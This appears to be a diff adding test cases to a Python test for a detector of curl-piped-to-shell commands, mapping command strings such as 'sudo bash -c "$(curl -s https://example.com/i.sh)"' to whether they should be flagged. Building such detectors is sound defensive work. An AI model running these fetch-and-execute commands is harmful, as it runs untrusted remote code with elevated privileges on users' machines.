@@ -68,6 +68,10 @@ def _is_given(value: str, options: tuple[str, ...]) -> bool:
 
 
 COMMANDS = {
+    "env bash <(curl -s https://example.com/i.sh)": True,
+    'sudo bash -c "$(curl -s https://example.com/i.sh)"': True,
+    "sudo apt-get update": False,
+    "bash -c 'curl -s https://example.com'": False,
     "curl -s https://example.com/install.sh | sh": True,
     "curl https://example.com | sudo bash": True,
     "bash <(curl https://example.com)": True,
